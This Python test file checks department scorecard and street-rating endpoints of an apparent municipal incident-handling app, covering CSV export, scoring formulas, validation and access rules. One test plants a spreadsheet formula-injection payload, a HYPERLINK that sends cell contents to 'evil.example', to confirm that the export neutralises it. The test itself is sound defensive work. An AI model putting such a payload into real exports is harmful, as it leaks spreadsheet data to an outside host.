"""Scorecards over HTTP (JSON and CSV) and street ratings of departments."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import UTC, date, datetime, timedelta

from sqlalchemy import select

from gridgov.departments.models import Department
from gridgov.evaluation.service import rate_department
from gridgov.incidents import actions
from gridgov.incidents.reporting import report_incident
from gridgov.users.models import User
from tests import evaluation as by_hand
from tests.conftest import auth

T0 = datetime(2026, 4, 1, 8, tzinfo=UTC)


def user(session, name):
    return session.scalar(select(User).where(User.username == name))


def handled(session, category, accept_after, resolve_after, rating):
    incident = report_incident(
        session, reporter_id=user(session, "gridhead").id, lon=109.1, lat=21.55,
        category_code=category, now=T0,
    ).incident  # fmt: skip
    handler = session.scalar(select(User).where(User.department_code == incident.department_code))
    actions.accept(
        session, incident_id=incident.id, actor=handler, now=T0 + timedelta(hours=accept_after)
    )
    actions.resolve(
        session,
        incident_id=incident.id,
        actor=handler,
        note="ok",
        now=T0 + timedelta(hours=resolve_after),
    )
    actions.close(
        session,
        incident_id=incident.id,
        actor=user(session, "gridhead"),
        rating=rating,
        now=T0 + timedelta(hours=resolve_after + 1),
    )
    return incident


def test_scorecards_as_json_and_csv(client, session):
    handled(session, "0102", accept_after=2, resolve_after=5, rating=4)  # community JW
    handled(session, "0102", accept_after=4, resolve_after=30, rating=2)  # late: SLA is 24 h
    params = {"from": "2026-04-01", "to": "2026-04-30"}
    body = client.get("/api/v1/evaluation", params=params, headers=auth(session, "operator")).json()
    [card] = [c for c in body["scorecards"] if c["department_code"] == "990105009003-JW"]
    assert card["assigned"] == 2 and card["accepted"] == 2
    assert card["median_accept_hours"] == 3.0
    assert card["within_sla_share"] == 0.5 and card["rating_mean"] == 3.0
    assert card["reopen_rate"] == 0.0 and card["street_rating_mean"] is None
    # By hand: 0.5 x 1/2 within the SLA + 0.2 x (1 - 0) + 0.3 x (3 - 1) / 4 = 0.6
    assert card["effectiveness"] == 0.6
    # The only department with figures sets both medians, and a tie counts as fast and
    # effective.
    assert body["thresholds"] == {"speed_hours": 3.0, "effectiveness": 0.6}
    assert card["quadrant"] == "fast_effective"
    text = client.get(
        "/api/v1/evaluation", params={**params, "format": "csv"}, headers=auth(session, "operator")
    ).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["department_code"] for r in rows} >= {"990105009003-JW"}
    assert rows[0].keys() >= {"median_accept_hours", "within_sla_share", "quadrant"}


def test_csv_opens_safely_in_a_spreadsheet(client, session):
    """A department named like a formula is text in Excel, and Chinese needs the BOM."""
    handled(session, "0102", accept_after=2, resolve_after=5, rating=4)
    department = session.scalar(select(Department).where(Department.code == "990105009003-JW"))
    department.name = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    session.flush()
    answer = client.get(
        "/api/v1/evaluation",
        params={"from": "2026-04-01", "to": "2026-04-30", "format": "csv"},
        headers=auth(session, "operator"),
    )
    assert answer.content.startswith(codecs.BOM_UTF8)
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    [row] = [r for r in rows if r["department_code"] == "990105009003-JW"]
    assert row["department_name"] == "'" + department.name
    assert row["assigned"] == "1"  # numbers stay numbers
    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r.values() if cell)


def test_thresholds_can_be_set(client, session):
    handled(session, "0102", accept_after=2, resolve_after=5, rating=5)
    params = {"from": "2026-04-01", "to": "2026-04-30", "speed_hours": 1, "effectiveness": 0.5}
    body = client.get("/api/v1/evaluation", params=params, headers=auth(session, "operator")).json()
    assert body["thresholds"] == {"speed_hours": 1.0, "effectiveness": 0.5}
    [card] = [c for c in body["scorecards"] if c["department_code"] == "990105009003-JW"]
    # 2 hours to accept is slower than 1; 0.5 x 1 + 0.2 x 1 + 0.3 x 1 = 1 is effective.
    assert card["effectiveness"] == 1.0 and card["quadrant"] == "slow_effective"


def test_bad_period_is_422(client, session):
    response = client.get(
        "/api/v1/evaluation",
        params={"from": "2026-04-30", "to": "2026-04-01"},
        headers=auth(session, "operator"),
    )
    assert response.status_code == 422
    assert client.get("/api/v1/evaluation", params={"from": "x", "to": "y"},
                      headers=auth(session, "operator")).status_code == 422  # fmt: skip


def test_streets_rate_departments_within_the_operators_area(client, session):
    body = {
        "street_code": "990105009",
        "department_code": "990105009-CG",
        "period_start": "2026-04-01",
        "period_end": "2026-04-30",
        "score": 4,
    }
    assert client.post("/api/v1/evaluation/street-ratings", json=body,
                       headers=auth(session, "operator_nw")).status_code == 201  # fmt: skip
    # An operator of another district may not rate for this street; a grid head may not rate.
    session.add(
        User(
            username="op_east",
            password_hash="-",
            display_name="东澜区",
            role="operator",
            area_code="990102",
        )
    )
    session.flush()
    assert client.post("/api/v1/evaluation/street-ratings", json=body,
                       headers=auth(session, "op_east")).status_code == 403  # fmt: skip
    assert client.post("/api/v1/evaluation/street-ratings", json=body,
                       headers=auth(session, "gridhead")).status_code == 403  # fmt: skip
    bad = client.post(
        "/api/v1/evaluation/street-ratings",
        json={**body, "score": 9},
        headers=auth(session, "operator_nw"),
    )
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "score"
    scores = client.get("/api/v1/evaluation", params={"from": "2026-04-01", "to": "2026-04-30"},
                        headers=auth(session, "operator")).json()["scorecards"]  # fmt: skip
    [card] = [c for c in scores if c["department_code"] == "990105009-CG"]
    assert card["street_rating_mean"] == 4.0


def test_reopened_work_and_street_ratings_count_by_hand(client, session):
    # Incident A: resolved in time, reopened, accepted again and resolved late, rated 4.
    # Incident B: resolved in time, rated 2. The street rates the community 5, and rates the
    # street's own office (no incidents at all) 2.
    a = handled_with_reopen(session)
    b = handled(session, "0102", accept_after=3, resolve_after=5, rating=2)
    assert a.department_code == b.department_code == "990105009003-JW"
    for department, score in (("990105009003-JW", 5), ("990105009-CG", 2)):
        rate_department(
            session, street_code="990105009", department_code=department,
            period_start=date(2026, 4, 1), period_end=date(2026, 4, 30), score=score,
        )  # fmt: skip
    params = {"from": "2026-04-01", "to": "2026-04-30"}
    body = client.get("/api/v1/evaluation", params=params, headers=auth(session, "operator")).json()
    cards = {c["department_code"]: c for c in body["scorecards"]}
    jw, cg = cards["990105009003-JW"], cards["990105009-CG"]
    # Three resolutions (A twice, B once), two of them in time; one reopening in three.
    assert (jw["assigned"], jw["resolved"], jw["within_sla_share"]) == (3, 3, 0.6667)
    assert jw["reopen_rate"] == 0.3333 and jw["median_accept_hours"] == 1.0
    assert (jw["rating_mean"], jw["street_rating_mean"]) == (3.0, 5.0)
    # 0.5 x 2/3 + 0.2 x (1 - 1/3) + 0.3 x ((3 + 5) / 2 - 1) / 4 = 0.691666...
    assert jw["effectiveness"] == 0.6917
    assert jw["effectiveness"] == round(
        by_hand.effectiveness(within_sla=2 / 3, reopen_rate=1 / 3, ratings=[3.0, 5.0]), 4
    )
    # Only a street rating: the other parts drop out and satisfaction is all, (2 - 1) / 4.
    assert (cg["resolved"], cg["reopen_rate"], cg["effectiveness"]) == (0, None, 0.25)
    assert cg["quadrant"] is None  # no speed
    # Medians: speed over JW alone, effectiveness over (0.6917, 0.25).
    assert body["thresholds"]["speed_hours"] == 1.0
    assert round(body["thresholds"]["effectiveness"], 4) == round((0.691667 + 0.25) / 2, 4)
    assert jw["quadrant"] == "fast_effective"


def handled_with_reopen(session):
    head = user(session, "gridhead")
    incident = report_incident(
        session, reporter_id=head.id, lon=109.1, lat=21.55, category_code="0102", now=T0
    ).incident
    handler = session.scalar(select(User).where(User.department_code == incident.department_code))

    def hours(h: float) -> datetime:
        return T0 + timedelta(hours=h)

    actions.accept(session, incident_id=incident.id, actor=handler, now=hours(1))
    actions.resolve(session, incident_id=incident.id, actor=handler, note="ok", now=hours(2))
    actions.reopen(session, incident_id=incident.id, actor=head, reason="又堆了", now=hours(3))
    actions.accept(session, incident_id=incident.id, actor=handler, now=hours(4))
    # The new deadline is 24 h after the reopening (27 h): 40 h is late.
    actions.resolve(session, incident_id=incident.id, actor=handler, note="ok", now=hours(40))
    actions.close(session, incident_id=incident.id, actor=head, rating=4, now=hours(41))
    return incident
